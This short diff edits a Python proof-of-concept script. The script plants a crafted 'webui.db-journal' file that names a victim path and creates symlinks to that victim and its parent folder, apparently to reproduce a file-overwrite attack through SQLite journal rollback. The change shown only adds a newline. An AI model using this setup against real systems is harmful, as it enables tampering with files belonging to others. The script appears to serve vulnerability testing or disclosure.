@@ -22,7 +22,7 @@ def journal(database: bytes, names: bytes) -> bytes:
 
 
 folder, victim = Path(sys.argv[1]), Path(sys.argv[2])
-victim.write_text("precious")
+victim.write_text("precious\n")
 (folder / "webui.db-journal").write_bytes(journal((folder / "webui.db").read_bytes(), str(victim).encode()))
 (folder / "link").symlink_to(victim)
 (folder / "folder").symlink_to(victim.parent)
